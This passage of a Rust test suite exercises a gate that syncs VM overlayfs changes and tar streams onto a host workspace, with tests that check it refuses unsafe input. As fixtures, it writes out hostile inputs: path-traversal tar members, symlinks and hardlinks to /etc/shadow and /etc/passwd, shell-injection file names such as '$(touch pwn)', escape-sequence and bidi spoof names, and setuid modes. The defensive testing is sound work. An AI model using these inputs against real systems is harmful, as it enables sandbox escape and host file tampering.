    refused(&g, &g.sync(&["--yes"]), &before, &expect);
}

#[test]
fn b9_xattr_whiteout_in_an_opaque_x_directory_is_refused() {
    let g = Gate::new(&[("d/hideme", "h"), ("d/keep", "k")]);
    g.u_dir("d").xattr("d", "trusted.overlay.opaque", b"x");
    g.u("d/hideme", "").xattr("d/hideme", "trusted.overlay.whiteout", b"y");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d", "E_XWHITEOUT"), ("d/hideme", "E_XWHITEOUT")]);
}

#[test]
fn b10_xattr_whiteout_without_opaque_x_is_refused() {
    let g = Gate::new(&[("d/hideme", "h")]);
    g.u("d/hideme", "").xattr("d/hideme", "trusted.overlay.whiteout", b"y");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d/hideme", "E_XWHITEOUT")]);
}

#[test]
fn b11_whiteout_inside_an_opaque_directory_is_refused() {
    let g = Gate::new(&[("d/x", "x"), ("d/y", "y")]);
    g.opaque("d").whiteout("d/x").u("d/new", "n");
    let before = g.snapshot();
    // The spec's code is E_OPAQUE_ANOMALY; the gate says E_WHITEOUT_IN_OPAQUE.
    refused(&g, &g.sync(&["--yes"]), &before, &[("d/x", "OPAQUE")]);
}

#[test]
fn b12_user_namespace_opaque_on_a_trusted_mount_is_refused() {
    let files: Vec<(String, String)> = (0..20).map(|i| (format!("src/f{i:02}.rs"), format!("// {i}\n"))).collect();
    let g = Gate::empty();
    for (p, c) in &files {
        g.h(p, c);
    }
    g.baseline();
    // An unprivileged VM user can set `user.*`; the kernel ignores it on a trusted-mode mount.
    g.agent(|m| {
        xattr::set(m.join("src"), "user.overlay.opaque", b"y")?;
        std::fs::write(m.join("src/new.rs"), "// new\n")
    });
    assert_eq!(xattr::get(g.upper().join("src"), "user.overlay.opaque").expect("xattr"), Some(b"y".to_vec()));
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("src", "E_WRONG_NS")]);
}

const USERXATTR: &str = "name: t\nextends: default\nworkspaces: [{host: ~/ws}]\nsync: {userxattr: true}\n";

#[test]
fn b13_trusted_namespace_on_a_userxattr_mount_is_refused() {
    let g = Gate::with_profile(USERXATTR);
    g.h("d/x", "x").h("e/y", "y");
    g.baseline();
    g.u_dir("d").xattr("d", "trusted.overlay.opaque", b"y").u_dir("e").xattr("e", "trusted.overlay.origin", b"");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d", "E_WRONG_NS"), ("e", "E_WRONG_NS")]);
}

#[test]
fn b13_userxattr_mode_reads_the_user_markers() {
    let g = Gate::with_profile(USERXATTR);
    g.h("d/x", "x").h("d/y", "y").h("gone", "g");
    g.baseline();
    g.u_dir("d").xattr("d", "user.overlay.opaque", b"y").u("d/new", "n").whiteout("gone");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["d/ 755", "d/new 644 n"]));
}

#[test]
fn b14_escaped_overlay_xattr_is_data_and_not_copied() {
    let g = Gate::new(&[("d/x", "x")]);
    g.agent(|m| {
        xattr::set(m.join("d"), "trusted.overlay.opaque", b"y")?;
        std::fs::write(m.join("d/new"), "n")
    });
    let stored = xattr::get(g.upper().join("d"), "trusted.overlay.overlay.opaque").expect("xattr");
    assert_eq!(stored, Some(b"y".to_vec()), "the kernel stored it escaped");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.stdout.contains("escaped overlay attribute"), "a warning: {}", out.all());
    assert_eq!(g.tree(), lines(&["d/ 755", "d/new 644 n", "d/x 644 x"]), "a merge, not a replace");
    let names: Vec<_> = xattr::list(g.host().join("d")).expect("list").collect();
    assert!(names.is_empty(), "{names:?}");
}

#[test]
fn b15_unknown_overlay_xattr_is_refused() {
    let g = Gate::new(&[("d/x", "x")]);
    g.u_dir("d").xattr("d", "trusted.overlay.foo", b"bar");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d", "E_OVL_UNKNOWN")]);
}

#[test]
fn b16_opaque_on_a_file_is_refused() {
    let g = Gate::new(&[("f", "old")]);
    g.u("f", "new").xattr("f", "trusted.overlay.opaque", b"y");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("f", "E_OPAQUE_ANOMALY")]);
}

#[test]
fn b17_protattr_applies_the_content_but_never_the_flag() {
    let g = Gate::new(&[("f", "old")]);
    g.agent(|m| {
        std::fs::write(m.join("f"), "new")?;
        let status = Command::new("chattr").arg("+i").arg(m.join("f")).status()?;
        if status.success() { Ok(()) } else { Err(std::io::Error::other("chattr +i through the overlay failed")) }
    });
    assert!(xattr::get(g.upper().join("f"), "trusted.overlay.protattr").expect("xattr").is_some());
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.stdout.contains("f: immutable/append-only flags set in the VM are not applied"), "{}", out.all());
    assert_eq!(g.tree(), lines(&["f 644 new"]));
    std::fs::write(g.host().join("f"), "still writable").expect("the host file is not immutable");
}

#[test]
fn b18_informational_xattrs_are_accepted_silently() {
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    g.xattr("", "trusted.overlay.uuid", b"0123456789abcdef").xattr("", "trusted.overlay.impure", b"y");
    g.u("a", "A2").xattr("a", "trusted.overlay.origin", b"\x00\xfb\x21\x01");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(!out.stdout.contains("notes:"), "{}", out.all());
    assert_eq!(g.tree(), lines(&["a 644 A2", "b 644 B"]));
}

#[test]
fn b19_whiteout_with_odd_metadata_is_still_a_whiteout() {
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    g.mknod("b", rustix::fs::FileType::CharacterDevice, 0o644, 0, 0);
    std::os::unix::fs::lchown(g.upper().join("b"), Some(1000), Some(1000)).expect("chown");
    g.xattr("b", "trusted.foo", b"bar");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A"]));
}

// ---------------------------------------------------------------------------------------------
// C. Transport and copy-out integrity (PAX tar streams).

#[test]
fn c1_stream_missing_entries_the_vm_declared_is_refused() {
    let g = Gate::new(&[("a", "A"), ("b", "B"), ("c", "C")]);
    let mut tar = Tar::new();
    tar.root().file("./a", "A2");
    // The VM counted two whiteouts that a non-root copy dropped.
    let before = g.snapshot();
    let out = g.sync_tar_counted(&tar.finish(), tar.entries + 2, tar.bytes, &["--yes"]);
    refused(&g, &out, &before, &[(".", "E_INCOMPLETE_TRANSPORT")]);
}

#[test]
fn c1_complete_gnu_tar_export_applies_like_the_directory() {
    let g = Gate::new(&[("a", "A\n"), ("b", "B\n"), ("d2/x", "x"), ("d3/y", "y"), ("src/main.rs", "fn main() {}\n")]);
    let merged = g.agent(|m| {
        std::fs::write(m.join("a"), "A\nmore\n")?;
        std::fs::remove_file(m.join("b"))?;
        std::fs::remove_dir_all(m.join("d2"))?;
        std::fs::remove_dir_all(m.join("d3"))?;
        std::fs::create_dir(m.join("d3"))?;
        std::fs::write(m.join("d3/new"), "n")?;
        std::os::unix::fs::symlink("src/main.rs", m.join("link"))
    });
    let stream = g.root().join("export.tar");
    let status = Command::new("tar")
        .args(["--xattrs", "--xattrs-include=*", "--numeric-owner", "-C"])
        .arg(g.upper())
        .arg("-cf")
        .arg(&stream)
        .arg(".")
        .status()
        .expect("GNU tar");
    assert!(status.success());
    let (mut entries, mut bytes) = (0, 0);
    for e in walkdir::WalkDir::new(g.upper()).min_depth(1) {
        let meta = e.expect("walk").path().symlink_metadata().expect("lstat");
        entries += 1;
        if meta.is_file() {
            bytes += meta.len();
        }
    }
    let stream = std::fs::read(&stream).expect("read");
    applied(&g.sync_tar_counted(&stream, entries, bytes, &["--yes"]));
    assert_eq!(g.tree(), merged);
}

#[test]
fn c3_member_path_traversal_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let absolute = g.outside().join("abs").display().to_string();
    let mut tar = Tar::new();
    tar.root().file("./a", "A2").file("../x", "x").file("a1/../../y", "y").file("a2//b", "b");
    tar.file_bytes(absolute.as_bytes(), b"abs");
    tar.pax(&[("path", b"../pax-x")]).file("innocent", "x");
    let before = g.snapshot();
    let expect = [
        ("../x", "E_PATH"),
        (absolute.as_str(), "E_PATH"),
        ("a1/../../y", "E_PATH"),
        ("a2//b", "E_PATH"),
        ("../pax-x", "E_PATH"),
    ];
    refused(&g, &g.sync_tar(&tar, &["--yes"]), &before, &expect);
}

#[test]
fn c4_duplicate_member_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let mut tar = Tar::new();
    tar.root().file("./a", "A2").symlink("./a", "b");
    let before = g.snapshot();
    refused(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("a", "E_PATH")]);
}

#[test]
fn c5_member_below_a_symlink_member_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let outside = g.outside().display().to_string();
    let mut tar = Tar::new();
    tar.root().symlink("./lnk", &outside).file("./lnk/f", "pwned");
    let before = g.snapshot();
    refused(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("lnk/f", "E_PATH"), ("lnk", "E_SYMLINK_ESCAPE")]);
    assert!(!g.outside().join("f").exists());
}

#[test]
fn c6_hardlink_members_to_anything_but_an_earlier_file_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    let mut tar = Tar::new();
    tar.root().file("./ok", "ok").whiteout("./w");
    tar.hardlink("./h1", "../../etc/passwd").hardlink("./h2", "./later").hardlink("./h3", "./missing");
    tar.hardlink("./h4", "./w").hardlink("./h5", "/etc/passwd").file("./later", "l");
    let before = g.snapshot();
    let expect = ["h1", "h2", "h3", "h4", "h5"].map(|h| (h, "E_HARDLINK"));
    refused(&g, &g.sync_tar(&tar, &["--yes"]), &before, &expect);
}

#[test]
fn c6_hardlink_to_an_earlier_file_is_copied_not_linked() {
    let g = Gate::new(&[("a", "A")]);
    let mut tar = Tar::new();
    tar.root().file("./orig", "data").hardlink("./copy", "./orig");
    applied(&g.sync_tar(&tar, &["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A", "copy 644 data", "orig 644 data"]));
    let (orig, copy) =
        (g.host().join("orig").metadata().expect("stat"), g.host().join("copy").metadata().expect("stat"));
    assert!(orig.ino() != copy.ino() || orig.nlink() == 2, "independent, or linked to each other only");
}

#[test]
fn c7_pax_header_abuse_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let before = g.snapshot();
    let mut duplicate = Tar::new();
    duplicate.root().pax(&[("path", b"a"), ("path", b"b")]).file("x", "x");
    let mut size = Tar::new();
    size.root().pax(&[("size", b"5")]).file("./a", "A2");
    let mut malformed = Tar::new();
    malformed.root().member(tar::EntryType::XHeader, b"./PaxHeaders/a", b"", 8, b"garbage\n").file("./a", "A2");
    let mut mixed = Tar::new();
    mixed.root().member(tar::EntryType::GNULongName, b"././@LongLink", b"", 4, b"./a\0");
    mixed.pax(&[("path", b"./b")]).file("./a", "A2");
    for (tar, why) in [
        (duplicate, "duplicate"),
        (size, "conflicts with the header size"),
        (malformed, "malformed"),
        (mixed, "two extension headers"),
    ] {
        let out = g.sync_tar(&tar, &["--yes"]);
        refused_saying(&g, &out, &before, &[(why, "E_ARCHIVE")]);
    }
}

#[test]
fn c8_truncated_stream_or_wrong_counts_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    let before = g.snapshot();
    let mut cut = Tar::new();
    cut.root().member(tar::EntryType::Regular, b"./a", b"", 100, &[b'x'; 50]);
    let stream = cut.buf.clone();
    let out = g.sync_tar_counted(&stream[..stream.len() - 462], 1, 100, &["--yes"]);
    refused(&g, &out, &before, &[("a", "E_INCOMPLETE_TRANSPORT")]);
    // A deletion alone (nothing to stage): without its end marker, or with other counts.
    let mut whole = Tar::new();
    whole.root().whiteout("./a");
    let (stream, entries) = (whole.finish(), whole.entries);
    let out = g.sync_tar_counted(&stream[..whole.buf.len()], entries, 0, &["--yes"]);
    refused_saying(&g, &out, &before, &[("end-of-archive", "E_INCOMPLETE_TRANSPORT")]);
    let out = g.sync_tar_counted(&stream, entries + 1, 0, &["--yes"]);
    refused(&g, &out, &before, &[(".", "E_INCOMPLETE_TRANSPORT")]);
    let out = g.sync_tar_counted(&stream, entries, 1, &["--yes"]);
    refused(&g, &out, &before, &[(".", "E_INCOMPLETE_TRANSPORT")]);
    assert_eq!(g.sync_tar_counted(&stream, entries, 0, &["--dry-run"]).code, 0, "the same stream, complete");
}

#[test]
fn c9_non_utf8_pax_path_is_refused() {
    // APFS cannot store it, and the gate checks every host as if it were macOS.
    let g = Gate::new(&[("a", "A")]);
    let mut tar = Tar::new();
    tar.root().pax(&[("path", b"./\xff\xfe")]).file("./x", "x");
    let before = g.snapshot();
    refused_saying(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("not valid UTF-8", "E_PATH")]);
}

// ---------------------------------------------------------------------------------------------
// D. Paths and names.

#[test]
fn d1_newline_in_a_name_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u("a\nb", "x");
    let before = g.snapshot();
    refused_saying(&g, &g.sync(&["--yes"]), &before, &[("`a\\u{a}b` contains a line break", "E_NAME")]);
}

#[test]
fn d1_newline_in_a_name_is_never_printed_raw() {
    let g = Gate::new(&[("a", "A")]);
    g.u("x\n  delete  README.md", "x");
    let out = g.sync(&["--dry-run"]);
    assert!(!out.stdout.contains("x\n  delete  README.md"), "{}", out.all());
    let out = g.sync(&["--dry-run", "--json"]);
    assert!(!out.stdout.contains("x\n  delete"), "{}", out.all());
}

#[test]
fn d2_control_and_bidi_characters_in_names_are_refused_and_never_printed_raw() {
    let g = Gate::new(&[("README.md", "r")]);
    g.u("\x1b[2K\rREADME.md", "spoof").u("evil\u{202E}gnp.sh", "x");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    refused(&g, &out, &before, &[("\\u{1b}[2K\\u{d}README.md", "E_NAME"), ("evil\\u{202e}gnp.sh", "E_NAME")]);
    for raw in ['\x1b', '\r', '\u{202E}'] {
        assert!(!out.stdout.contains(raw) && !out.stderr.contains(raw), "{raw:?} printed raw: {}", out.all());
    }
}

#[test]
fn d3_invalid_utf8_name_is_refused() {
    use std::os::unix::ffi::OsStrExt;
    let g = Gate::new(&[("a", "A")]);
    std::fs::write(g.upper().join(std::ffi::OsStr::from_bytes(b"\xff\xfe")), "x").expect("write");
    g.u("ok", "ok");
    let before = g.snapshot();
    refused_saying(&g, &g.sync(&["--yes"]), &before, &[("not valid UTF-8", "E_NAME")]);
}

#[test]
fn d4_overlong_names_are_refused_up_front() {
    let g = Gate::new(&[("a", "A")]);
    let ascii = "n".repeat(256);
    let wide = "\u{20ac}".repeat(100);
    let mut tar = Tar::new();
    tar.root().file("./a", "A2").pax(&[("path", format!("./{ascii}").as_bytes())]).file("./x", "x");
    tar.pax(&[("path", format!("./{wide}").as_bytes())]).file("./y", "y");
    let before = g.snapshot();
    let expect = [(ascii.as_str(), "E_NAME_LENGTH"), (wide.as_str(), "E_NAME_LENGTH")];
    refused(&g, &g.sync_tar(&tar, &["--yes"]), &before, &expect);
}

#[test]
fn d5_long_path_within_path_max_is_applied() {
    let g = Gate::new(&[("a", "A")]);
    let long: Vec<String> = (0..55).map(|i| format!("{i:02}{}", "d".repeat(61))).collect();
    let path = format!("{}/f", long.join("/"));
    assert!(path.len() > 3500);
    g.u(&path, "deep");
    applied(&g.sync(&["--yes"]));
    assert_eq!(std::fs::read_to_string(g.host().join(&path)).expect("written"), "deep");
    assert_eq!(g.tree().len(), 57, "55 directories, the file and `a`");
}

#[test]
fn d5_path_past_path_max_is_refused_up_front() {
    // Beyond Linux PATH_MAX (within the depth limit): refused before any write, never half-applied.
    let g = Gate::new(&[("a", "A")]);
    let longer: Vec<String> = (0..60).map(|i| format!("{i:02}{}", "e".repeat(68))).collect();
    let path = format!("./{}/f", longer.join("/"));
    let mut tar = Tar::new();
    tar.root().file("./a", "A3").pax(&[("path", path.as_bytes())]).file("./x", "x");
    let before = g.snapshot();
    refused_saying(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("is longer than 4096 bytes", "E_NAME_LENGTH")]);
}

#[test]
fn d6_shell_hostile_names_are_applied_literally() {
    let g = Gate::new(&[("a", "A")]);
    let names = ["-rf", "--help", "*", "$(touch pwn)", "~", ";touch pwn2", "`touch pwn3`"];
    for name in names {
        g.u(name, "literal");
    }
    applied(&g.sync(&["--yes"]));
    let mut expect: Vec<String> = names.iter().map(|n| format!("{n} 644 literal")).collect();
    expect.push("a 644 A".into());
    expect.sort();
    assert_eq!(g.tree(), expect);
    for pwn in ["pwn", "pwn2", "pwn3"] {
        assert!(!g.home().join(pwn).exists() && !g.host().join(pwn).exists(), "{pwn}");
    }
}

#[test]
fn d7_temp_names_never_clobber_host_files() {
    let g = Gate::new(&[("a", "A")]);
    g.u("a", "A2");
    // `exec` keeps the shell's pid, so the file is named exactly as the gate's temp file will be.
    let mut args = vec!["-c".to_owned(), "printf 'host data' > ws/.sandbox-sync-$$.tmp && exec \"$0\" \"$@\"".into()];
    args.push(env!("CARGO_BIN_EXE_sandbox").into());
    args.extend(g.sync_args(&["--yes"]));
    let output = g.command(Path::new("sh")).args(&args).output().expect("sh");
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(std::fs::read_to_string(g.host().join("a")).expect("a"), "A2");
    let kept: Vec<String> = g.tree().into_iter().filter(|l| l.starts_with(".sandbox-sync-")).collect();
    assert_eq!(kept.len(), 1, "the host file the VM never saw survives: {:?}", g.tree());
    assert!(kept[0].ends_with(" 644 host data"), "{kept:?}");
}

#[test]
fn d8_aufs_looking_names_are_ordinary_files() {
    let g = Gate::new(&[("foo", "F"), ("d/x", "x")]);
    g.u(".wh.foo", "w").u_dir("d").u("d/.wh..wh..opq", "");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&[".wh.foo 644 w", "d/ 755", "d/.wh..wh..opq 644 ", "d/x 644 x", "foo 644 F"]));
}

#[test]
fn d9_names_windows_and_smb_would_alter_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u("...", "x").u(" ", "x").u("trailing-space ", "x");
    let before = g.snapshot();
    let expect =
        [("`...` ends with a dot", "E_NAME"), ("` ` ends with", "E_NAME"), ("`trailing-space ` ends", "E_NAME")];
    refused_saying(&g, &g.sync(&["--yes"]), &before, &expect);
}

#[test]
fn d10_ntfs_aliases_are_refused() {
    // Reserved device names (`CON`, `aux.txt`) are accepted by design: hosts are Linux or macOS.
    let g = Gate::new(&[("a", "A")]);
    g.u("GIT~1/config", "[core]\n").u("foo.", "x");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("GIT~1/config", "E_GIT_PATH"), ("foo.", "E_NAME")]);
}

// ---------------------------------------------------------------------------------------------
// E. Symlinks.

#[test]
fn e1_absolute_symlink_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u_link("x", "/etc/shadow");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("x", "E_SYMLINK_ESCAPE")]);
}

#[test]
fn e2_relative_symlink_escaping_the_workspace_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u_link("d/evil_rel", "../../../../etc/shadow").u_link("up", "../outside/credentials");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d/evil_rel", "E_SYMLINK_ESCAPE"), ("up", "E_SYMLINK_ESCAPE")]);
}

#[test]
fn e3_in_tree_symlink_is_created_verbatim() {
    let g = Gate::new(&[("v2/index.md", "v2"), ("docs/readme", "r")]);
    g.u_dir("docs").u_link("docs/latest", "../v2");
    applied(&g.sync(&["--yes"]));
    assert_eq!(
        g.tree(),
        lines(&["docs/ 755", "docs/latest -> ../v2", "docs/readme 644 r", "v2/ 755", "v2/index.md 644 v2"])
    );
}

#[test]
fn e4_chained_symlink_escape_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u_link("r", ".").u_link("esc", "r/..");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("esc", "E_SYMLINK_ESCAPE")]);
}

#[test]
fn e5_symlink_loop_is_refused_quickly() {
    let g = Gate::new(&[("a", "A")]);
    g.u_link("a1", "b1").u_link("b1", "a1");
    let before = g.snapshot();
    let out = g.sync_within(&["--yes"], Duration::from_secs(20)).expect("no hang");
    refused(&g, &out, &before, &[("a1", "E_SYMLINK_LOOP"), ("b1", "E_SYMLINK_LOOP")]);
}

#[test]
fn e6_host_symlink_replaced_by_a_directory_is_never_followed() {
    let g = Gate::empty();
    g.h_link("docs", &g.outside().display().to_string());
    g.baseline();
    g.opaque("docs").u("docs/a.md", "a");
    let before = g.snapshot();
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["docs/ 755", "docs/a.md 644 a"]));
    let after = g.snapshot();
    for (path, what) in before.iter().filter(|(p, _)| !p.starts_with("ws") && !p.is_empty()) {
        assert_eq!(after.get(path), Some(what), "{path}");
    }
    assert!(!g.outside().join("a.md").exists());
}

#[test]
fn e7_symlinked_parent_created_on_the_host_is_refused() {
    let g = Gate::new(&[("src/main.rs", "fn main() {}\n"), ("a", "A")]);
    std::fs::rename(g.host().join("src"), g.home().join("other")).expect("move");
    g.h_link("src", &g.home().join("other").display().to_string());
    g.u_dir("src").u("src/main.rs", "fn main() { evil() }\n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("src", "host")]);
    assert_eq!(std::fs::read_to_string(g.home().join("other/main.rs")).expect("read"), "fn main() {}\n");
}

#[test]
fn e8_symlink_into_git_is_refused() {
    let g = Gate::new(&[(".git/hooks/pre-commit.sample", "#!/bin/sh\n"), ("a", "A")]);
    g.u_link("hooks", ".git/hooks").u_link("x", ".GIT");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("hooks", "E_GIT_PATH"), ("x", "E_GIT_PATH")]);
}

#[test]
fn e9_pathological_symlink_targets_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u_link("nl", "a\nb").u_link("long", &"x/".repeat(1000));
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("nl", "E_SYMLINK_TARGET"), ("long", "E_SYMLINK_TARGET")]);
    let mut huge = Tar::new();
    huge.root().pax(&[("linkpath", "y/".repeat(2500).as_bytes())]).symlink("./huge", "placeholder");
    refused(&g, &g.sync_tar(&huge, &["--yes"]), &before, &[("huge", "E_SYMLINK_TARGET")]);
    let mut empty = Tar::new();
    empty.root().symlink("./empty", "");
    refused(&g, &g.sync_tar(&empty, &["--yes"]), &before, &[("./empty", "E_ARCHIVE")]);
}

#[test]
fn e10_file_to_symlink_over_a_host_edit_is_a_conflict() {
    let g = Gate::new(&[("conf", "base"), ("conf.d/x", "x")]);
    g.h("conf", "host edit");
    g.u_link("conf", "conf.d/x");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("conf", "changed on the host")]);
}

#[test]
fn e11_host_symlink_to_a_secret_is_replaced_not_written_through() {
    let g = Gate::empty();
    g.h_link("config.json", &g.outside().join("credentials").display().to_string());
    g.baseline();
    g.u("config.json", "{}\n");
    let before = g.snapshot();
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["config.json 644 {}\n"]));
    assert_eq!(g.snapshot()["outside/credentials"], before["outside/credentials"]);
}

// ---------------------------------------------------------------------------------------------
// F. Hardlinks and special files.

#[test]
fn f1_new_hardlinked_pair_is_created_within_the_tree() {
    let g = Gate::new(&[("a", "A")]);
    g.agent(|m| {
        std::fs::create_dir(m.join("hl"))?;
        std::fs::write(m.join("hl/one"), "data")?;
        std::fs::hard_link(m.join("hl/one"), m.join("hl/two"))
    });
    assert_eq!(g.upper().join("hl/one").metadata().expect("stat").nlink(), 2);
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A", "hl/ 755", "hl/one 644 data", "hl/two 644 data"]));
    let stat = |p: &str| g.host().join(p).metadata().expect("stat");
    let (one, two, a) = (stat("hl/one"), stat("hl/two"), stat("a"));
    assert!(one.ino() != a.ino() && two.ino() != a.ino() && a.nlink() == 1, "never linked to a host inode");
    assert!(one.ino() != two.ino() || one.nlink() == 2);
}

#[test]
fn f2_host_file_with_other_links_is_replaced_by_rename() {
    let g = Gate::empty();
    g.h("hl1", "hl");
    std::fs::hard_link(g.host().join("hl1"), g.host().join("hl2")).expect("link");
    g.baseline();
    let ino = g.host().join("hl2").metadata().expect("stat").ino();
    g.u("hl1", "changed");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["hl1 644 changed", "hl2 644 hl"]));
    assert_eq!(g.host().join("hl2").metadata().expect("stat").ino(), ino);
}

#[test]
fn f2_host_file_with_other_links_is_replaced_with_a_warning() {
    let g = Gate::empty();
    g.h("hl1", "hl");
    std::fs::hard_link(g.host().join("hl1"), g.host().join("hl2")).expect("link");
    g.baseline();
    g.u("hl1", "changed");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.stdout.lines().any(|l| l.contains("hl1") && l.contains("link")), "a warning\n{}", out.all());
}

#[test]
fn f3_host_hardlink_to_a_file_outside_is_never_written_through() {
    let g = Gate::empty();
    put(&g.outside(), "bashrc", b"export PS1='$ '\n");
    std::fs::hard_link(g.outside().join("bashrc"), g.host().join("notes.txt")).expect("link");
    g.baseline();
    g.u("notes.txt", "new notes\n");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["notes.txt 644 new notes\n"]));
    assert_eq!(std::fs::read_to_string(g.outside().join("bashrc")).expect("read"), "export PS1='$ '\n");
    let (notes, bashrc) = (g.host().join("notes.txt").metadata(), g.outside().join("bashrc").metadata());
    assert_ne!(notes.expect("stat").ino(), bashrc.expect("stat").ino(), "replaced by rename");
}

#[test]
fn f4_real_device_nodes_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.mknod("null", rustix::fs::FileType::CharacterDevice, 0o666, 1, 3);
    g.mknod("sda", rustix::fs::FileType::BlockDevice, 0o660, 8, 0);
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("null", "E_SPECIAL"), ("sda", "E_SPECIAL")]);
}

#[test]
fn f5_fifo_is_refused_without_blocking() {
    let g = Gate::new(&[("a", "A")]);
    g.mknod("p", rustix::fs::FileType::Fifo, 0o644, 0, 0).u("a", "A2");
    let before = g.snapshot();
    let out = g.sync_within(&["--yes"], Duration::from_secs(20)).expect("the gate never opens the FIFO");
    refused(&g, &out, &before, &[("p", "E_SPECIAL")]);
}

#[test]
fn f6_unix_socket_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    drop(std::os::unix::net::UnixListener::bind(g.upper().join("sock")).expect("bind"));
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("sock", "E_SPECIAL")]);
}

#[test]
fn f7_file_with_links_outside_the_upper_is_refused_or_warned() {
    let g = Gate::new(&[("a", "A")]);
    g.u("f", "data");
    std::fs::hard_link(g.upper().join("f"), g.root().join("index/00fb")).expect("link");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    let warned = out.stdout.lines().any(|l| l.contains("f") && (l.contains("link") || l.contains("E_INDEX")));
    assert!(warned, "the upper is incomplete: refuse (E_INDEX) or at least warn\n{}", out.all());
    if out.code != 0 {
        refused(&g, &out, &before, &[("f", "E_INDEX")]);
    }
}

// ---------------------------------------------------------------------------------------------
// G. Permissions, ownership, xattrs, times.

#[test]
fn g1_setuid_and_setgid_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u("suid", "bin").u_mode("suid", 0o6755).u_dir("sgid").u_mode("sgid", 0o2755).u_dir("tmp").u_mode("tmp", 0o1777);
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("suid", "E_MODE"), ("sgid", "E_MODE"), ("tmp", "E_MODE")]);
}

#[test]
fn g2_world_writable_files_are_normalised() {
    let g = Gate::new(&[("a", "A")]);
    g.u("w.txt", "w").u_mode("w.txt", 0o666).u("g.txt", "g").u_mode("g.txt", 0o664);
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A", "g.txt 644 g", "w.txt 644 w"]));
}

#[test]
fn g2_world_writable_directories_are_normalised() {
    let g = Gate::new(&[("shared/x", "x")]);
    g.u_dir("shared").u_mode("shared", 0o777).u("pub/f", "f").u_mode("pub", 0o777);
    // A user whose umask is 0 must not get world-writable directories from the VM either.
    let mut args = vec!["-c".to_owned(), "umask 000 && exec \"$0\" \"$@\"".into()];
    args.push(env!("CARGO_BIN_EXE_sandbox").into());
    args.extend(g.sync_args(&["--yes"]));
    let output = g.command(Path::new("sh")).args(&args).output().expect("sh");
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let tree = g.tree();
    assert_eq!(tree.len(), 4, "{tree:?}");
    for line in &tree {
        let mode = line.split(' ').nth(1).and_then(|m| u32::from_str_radix(m, 8).ok()).expect("mode");
        assert_eq!(mode & 0o022, 0, "no group/world-writable entries from the VM: {tree:?}");
    }
}

#[test]
fn g3_file_capabilities_are_dropped() {
    let g = Gate::new(&[("a", "A")]);
    // vfs_cap_data v2: effective, permitted = CAP_NET_RAW.
    let cap: Vec<u8> = [0x0200_0001u32, 1 << 13, 0, 0, 0].iter().flat_map(|w| w.to_le_bytes()).collect();
    g.u("tool", "bin").xattr("tool", "security.capability", &cap);
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.stdout.contains("tool: file capabilities are dropped"), "{}", out.all());
    assert_eq!(xattr::get(g.host().join("tool"), "security.capability").expect("xattr"), None);
    assert_eq!(g.tree(), lines(&["a 644 A", "tool 644 bin"]));
}

#[test]
fn g4_timestamps_from_the_vm_are_not_kept() {
    let g = Gate::new(&[("a", "A")]);
